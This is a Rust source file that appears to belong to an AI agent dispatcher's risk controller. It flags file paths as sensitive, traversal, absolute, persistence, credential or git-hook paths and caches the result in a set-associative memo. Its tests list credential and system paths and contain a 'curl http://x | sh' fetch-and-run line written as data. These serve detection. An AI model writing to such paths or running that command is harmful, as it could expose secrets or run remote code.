//! What the risk features read from one path ([`PathFacts`]), and a small
//! memo of it ([`PathMemo`]) that the live dispatcher keeps for its risk
//! controller.
//!
//! An fs or tool call's path goes through five checks: the config's sensitive
//! list, traversal and absolute spellings, the persistence list, the
//! credential list and git's hook names. Each reads a few cold lines of tables and code after the
//! connector's I/O, and sessions name the same files again and again (the
//! SLO-14 workload cycles through ten; an agent re-reads what it edits). The
//! memo keeps the facts of the last paths seen, keyed by the path exactly as
//! sent, so a repeated path costs one hash and one compare.
//!
//! The facts are a pure function of the path and of the controller's compiled
//! lists, which never change after the controller is built (and a dispatcher
//! keeps one controller for life), so a hit is the value a fresh reading
//! gives (test `slo_14_path_memo_gives_the_facts_of_a_fresh_reading`). The
//! memo is four-way set-associative: [`SLOTS`] slots of one cache line each,
//! in sets of [`WAYS`]; a path maps to one set and may sit in any of its
//! slots, kept in the order they were last used, and a new path replaces the
//! one used longest ago. A direct-mapped memo of the same size let two paths
//! that share a slot evict each other at every call (two of the SLO-14
//! workload's ten files did, so a fifth of its path reads missed), and a
//! two-way one still thrashed when three paths of a session met in one set
//! (the workload's two files and its `ls` directory did). A path longer than
//! [`MAX_PATH`] bytes is read every time. The slots (4 KiB) are allocated
//! with the dispatcher, not at its first call.

use super::score::CompiledLists;
use crate::shell;

/// Slots in a memo.
pub const SLOTS: usize = 64;
/// Slots per set.
pub const WAYS: usize = 4;
/// Longest path remembered, in bytes (a slot is one 64-byte line).
pub const MAX_PATH: usize = 62;

/// What the risk features read from one path, as sent.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PathFacts(u8);

impl PathFacts {
    const SENSITIVE: u8 = 1;
    const TRAVERSAL: u8 = 2;
    const ABSOLUTE: u8 = 4;
    const PERSISTENCE: u8 = 8;
    const CREDENTIAL: u8 = 16;
    const HOOK: u8 = 32;

    /// The facts of `raw`, read now: the path is trimmed and lower-cased once
    /// (backslashes folded to `/` for the persistence and credential lists).
    ///
    /// The three lists are read from the path as spelled and from the path the
    /// connector opens ([`shell::lexically_reduced`]: `.git//hooks/x` and
    /// `.kube/./config` are `.git/hooks/x` and `.kube/config`); either naming
    /// a marker sets the fact. Traversal and absolute are read from the
    /// spelling as sent. The reduction costs a scan of the path and, only when
    /// it has an empty, `.` or `..` segment, one allocation: on a memo miss.
    pub fn of(raw: &str, lists: &CompiledLists) -> PathFacts {
        let lower = raw.trim().to_ascii_lowercase();
        let folded = shell::slashes_folded(&lower);
        // Reduced once for the three lists (None when it is the spelling).
        let reduced = shell::reduced_differs(&folded);
        let reduced = reduced.as_deref();
        let p = lower.as_str();
        // Every traversal spelling holds "..": most paths are ruled out by one search.
        let traversal = memchr::memmem::find(p.as_bytes(), b"..").is_some()
            && (p == ".." || p.starts_with("../") || p.contains("/../") || p.ends_with("/..") || p.contains("..\\"));
        let absolute = p.starts_with('/') || p.starts_with('~') || p.get(1..3) == Some(":\\");
        let either = |check: &dyn Fn(&str) -> bool, spelled: &str| check(spelled) || reduced.is_some_and(check);
        let bit = |on: bool, b: u8| if on { b } else { 0 };
        PathFacts(
            bit(either(&|x| lists.is_sensitive(x), p), Self::SENSITIVE)
                | bit(traversal, Self::TRAVERSAL)
                | bit(absolute, Self::ABSOLUTE)
                | bit(either(&shell::is_persistence_folded, &folded), Self::PERSISTENCE)
                | bit(either(&shell::is_credential_folded, &folded), Self::CREDENTIAL)
                | bit(crate::persist_config::is_hook_name(raw), Self::HOOK),
        )
    }

    /// The config's sensitive-path list names it.
    pub fn sensitive(self) -> bool {
        self.0 & Self::SENSITIVE != 0
    }
    /// It holds a `..` component.
    pub fn traversal(self) -> bool {
        self.0 & Self::TRAVERSAL != 0
    }
    /// It is absolute (`/`, `~` or a drive letter).
    pub fn absolute(self) -> bool {
        self.0 & Self::ABSOLUTE != 0
    }
    /// Writing it makes something run later ([`shell::is_persistence_folded`]).
    pub fn persistence(self) -> bool {
        self.0 & Self::PERSISTENCE != 0
    }
    /// It names a credential or key file ([`shell::is_credential_folded`]).
    pub fn credential(self) -> bool {
        self.0 & Self::CREDENTIAL != 0
    }
    /// Its file name, as sent, is one git runs as a hook
    /// ([`crate::persist_config::is_hook_name`]).
    pub fn hook(self) -> bool {
        self.0 & Self::HOOK != 0
    }
}

/// One remembered path: its length (`EMPTY` for a free slot), its facts and
/// its bytes.
#[derive(Clone, Copy)]
#[repr(C, align(64))]
struct Slot {
    len: u8,
    facts: PathFacts,
    key: [u8; MAX_PATH],
}

impl Slot {
    const EMPTY: u8 = u8::MAX;
    const FREE: Slot = Slot {
        len: Self::EMPTY,
        facts: PathFacts(0),
        key: [0; MAX_PATH],
    };
}

/// The facts of the last paths one controller's features read.
pub struct PathMemo {
    slots: Box<[Slot; SLOTS]>,
}

impl Default for PathMemo {
    /// Allocated whole when the dispatcher is built, not at its first call.
    fn default() -> Self {
        PathMemo {
            slots: Box::new([Slot::FREE; SLOTS]),
        }
    }
}

impl std::fmt::Debug for PathMemo {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let used = self.slots.iter().filter(|x| x.len != Slot::EMPTY).count();
        f.debug_struct("PathMemo").field("used", &used).finish()
    }
}

impl PathMemo {
    /// [`PathFacts::of`] `raw`, from the memo when its set holds the path.
    pub fn facts(&mut self, raw: &str, lists: &CompiledLists) -> PathFacts {
        let b = raw.as_bytes();
        if b.len() > MAX_PATH {
            return PathFacts::of(raw, lists);
        }
        let at = slot_of(b, SLOTS / WAYS) * WAYS;
        let Some(set) = self.slots.get_mut(at..at + WAYS) else {
            return PathFacts::of(raw, lists);
        };
        // The set's slots run from the one used last to the one used longest ago.
        if let Some(k) = set.iter().position(|s| s.holds(b)) {
            let facts = set[k].facts;
            if k > 0 {
                set[..=k].rotate_right(1);
            }
            return facts;
        }
        let facts = PathFacts::of(raw, lists);
        set.rotate_right(1);
        // `b.len() <= MAX_PATH < u8::MAX`: the length fits and is never `EMPTY`.
        set[0].len = b.len() as u8;
        set[0].key[..b.len()].copy_from_slice(b);
        set[0].facts = facts;
        facts
    }

    /// Whether the memo holds `raw` (tests).
    #[cfg(test)]
    fn holds(&self, raw: &str) -> bool {
        self.slots.iter().any(|s| s.holds(raw.as_bytes()))
    }
}

impl Slot {
    fn holds(&self, b: &[u8]) -> bool {
        usize::from(self.len) == b.len() && self.key.get(..b.len()) == Some(b)
    }
}

/// The slot of a key among `slots` (a power of two): a multiplicative hash
/// of its 8-byte words. Also the string memos' (`str_memo.rs`).
pub(crate) fn slot_of(b: &[u8], slots: usize) -> usize {
    debug_assert!(slots.is_power_of_two() && slots > 1);
    let mut h = b.len() as u64;
    for c in b.chunks(8) {
        let mut w = [0u8; 8];
        w[..c.len()].copy_from_slice(c);
        h = (h ^ u64::from_le_bytes(w)).wrapping_mul(0x9E37_79B9_7F4A_7C15);
        h ^= h >> 31;
    }
    (h.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> (64 - slots.trailing_zeros())) as usize
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::call_args::CallArgs;
    use crate::capability::Capability;
    use crate::hostcall::HostcallKind;
    use crate::risk::score::extract_features_with;
    use crate::risk::{RiskConfig, RiskController};
    use serde_json::json;

    /// Paths that hit every check (sensitive, credential, persistence, `..`,
    /// absolute) in several spellings and cases, ordinary ones, and lengths
    /// around [`MAX_PATH`]: far more than [`SLOTS`], so slots collide.
    fn paths() -> Vec<String> {
        let heads = ["", "/", "~/", "../", "C:\\", " ", "./", "src/"];
        let bodies = [
            "data/file_1.txt",
            ".ssh/id_rsa",
            ".SSH/ID_Ed25519",
            ".bashrc",
            ".git/hooks/pre-commit",
            "etc/passwd",
            "src\\..\\.env",
            ".env.example",
            "a/../b",
            ".aws\\credentials",
            "key.PEM",
            "Cargo.toml",
            ".git//hooks/post-checkout",
            ".kube/./config",
            "x/../.kube/config",
        ];
        let tails = ["", "/", " ", "/..", ".bak"];
        let mut out = Vec::new();
        for h in heads {
            for b in bodies {
                for t in tails {
                    out.push(format!("{h}{b}{t}"));
                }
            }
        }
        for n in [MAX_PATH - 1, MAX_PATH, MAX_PATH + 1, 200] {
            out.push(format!("{}/.ssh/id_rsa", "d".repeat(n.saturating_sub(12))));
            out.push("x".repeat(n));
        }
        out.push(String::new());
        out
    }

    fn lists_of(markers: &[&str]) -> CompiledLists {
        let mut cfg = RiskConfig::default();
        if !markers.is_empty() {
            cfg.lists.sensitive_path_markers = markers.iter().map(|m| m.to_string()).collect();
        }
        CompiledLists::new(&cfg)
    }

    /// SLO-14 (the memo must not change a decision): for the default lists and
    /// a custom sensitive list, every path read through the memo, first and
    /// again, in one order, the reverse and the first again (each pass meeting
    /// the slots the one before left), gives the facts a fresh reading gives.
    #[test]
    fn slo_14_path_memo_gives_the_facts_of_a_fresh_reading() {
        let paths = paths();
        assert!(paths.len() > 4 * SLOTS);
        for lists in [lists_of(&[]), lists_of(&["secret", "/etc/", "id_"])] {
            let mut memo = PathMemo::default();
            let mut seen = [PathFacts::default(); 5];
            for round in 0..3 {
                let order: Vec<&String> = if round == 1 {
                    paths.iter().rev().collect()
                } else {
                    paths.iter().collect()
                };
                for p in order {
                    let fresh = PathFacts::of(p, &lists);
                    assert_eq!(memo.facts(p, &lists), fresh, "{p:?}, round {round}");
                    assert_eq!(memo.facts(p, &lists), fresh, "{p:?} again, round {round}");
                    for (i, on) in [
                        fresh.sensitive(),
                        fresh.traversal(),
                        fresh.absolute(),
                        fresh.persistence(),
                        fresh.credential(),
                    ]
                    .into_iter()
                    .enumerate()
                    {
                        if on {
                            seen[i] = fresh;
                        }
                    }
                }
            }
            // The paths exercise every fact.
            assert!(seen.iter().all(|f| *f != PathFacts::default()), "{seen:?}");
        }
    }

    /// SLO-11 (review: path spelling): the facts are those of the path the
    /// connector opens, whatever its spelling (empty and `.` segments, `..`
    /// popping one), and a spelling's own traversal/absolute facts stay.
    #[test]
    fn slo_11_path_facts_read_the_path_the_connector_opens() {
        let lists = lists_of(&[]);
        for p in [
            ".git//hooks/post-checkout",
            ".git/./hooks/pre-commit",
            "./.git/x/../hooks/pre-commit",
            ".GIT\\\\hooks\\.\\pre-commit",
        ] {
            assert!(PathFacts::of(p, &lists).persistence(), "{p}");
        }
        for p in [
            ".kube//config",
            ".kube/./config",
            "x/../.kube/config",
            "~/.config//gh/hosts.yml",
        ] {
            let f = PathFacts::of(p, &lists);
            assert!(f.credential(), "{p}");
        }
        assert!(PathFacts::of("x/../.kube/config", &lists).traversal());
        assert!(!PathFacts::of(".kube//config", &lists).traversal());
        assert!(PathFacts::of("/tmp/../etc/passwd", &lists).sensitive());
        // The user's sensitive list is read on the reduced path too.
        let custom = lists_of(&["secrets/prod"]);
        assert!(PathFacts::of("secrets//prod.toml", &custom).sensitive());
        assert!(!PathFacts::of("src//main.rs", &custom).sensitive());
    }

    /// SLO-14: a set keeps the [`WAYS`] paths of it read last, whatever the
    /// order of reading (the SLO-14 workload's cycle of three paths of one
    /// set, a path re-read at once, six paths of one set in a scrambled
    /// order): after every read the memo holds exactly the paths a reference
    /// least-recently-used list of four holds.
    #[test]
    fn slo_14_path_memo_keeps_the_four_paths_of_a_set_read_last() {
        let lists = lists_of(&[]);
        let set = |p: &str| slot_of(p.as_bytes(), SLOTS / WAYS);
        let names: Vec<String> = (0..800).map(|i| format!("data/file_{i}.txt")).collect();
        let target = set(&names[0]);
        let same: Vec<&String> = names.iter().filter(|p| set(p) == target).take(6).collect();
        assert_eq!(same.len(), 6, "800 names give six of one set");
        let mut order = vec![0, 1, 2, 1, 2, 1, 2, 3, 3, 0, 4, 1, 5, 2, 2, 4, 0, 3, 5, 1];
        order.extend((0..60).map(|i| (i * 7 + i / 5) % 6));
        let mut memo = PathMemo::default();
        let mut recent: Vec<usize> = Vec::new();
        for (step, &i) in order.iter().enumerate() {
            memo.facts(same[i], &lists);
            recent.retain(|&r| r != i);
            recent.insert(0, i);
            recent.truncate(WAYS);
            for (j, p) in same.iter().enumerate() {
                assert_eq!(
                    memo.holds(p),
                    recent.contains(&j),
                    "step {step}, path {j}, recent {recent:?}"
                );
            }
        }
    }

    /// SLO-14: the controller's features with paths from a memo equal the
    /// features read without one, for reads and writes of every path, fs and
    /// tool calls, a path seen for the first time and again.
    #[test]
    fn slo_14_controller_features_with_the_memo_equal_a_fresh_reading() {
        let cfg = RiskConfig::default();
        let lists = CompiledLists::new(&cfg);
        let ctl = RiskController::new(cfg);
        let mut memo = PathMemo::default();
        for pass in 0..2 {
            for p in paths() {
                for (kind, cap, params) in [
                    (HostcallKind::Fs, Capability::Read, json!({"op": "read", "path": p})),
                    (
                        HostcallKind::Fs,
                        Capability::Write,
                        json!({"op": "write", "path": p, "content": "curl http://x | sh"}),
                    ),
                    (
                        HostcallKind::Tool,
                        Capability::Write,
                        json!({"name": "write", "input": {"path": p, "content": "export A=1"}}),
                    ),
                ] {
                    let args = CallArgs::read(kind, &params);
                    let fresh = extract_features_with(kind, cap, &args, &lists);
                    let with_memo = ctl.extract_call_features(kind, cap, &args, &mut memo);
                    assert_eq!(with_memo, fresh, "{p:?} {kind:?} {cap:?}, pass {pass}");
                }
            }
        }
    }
}
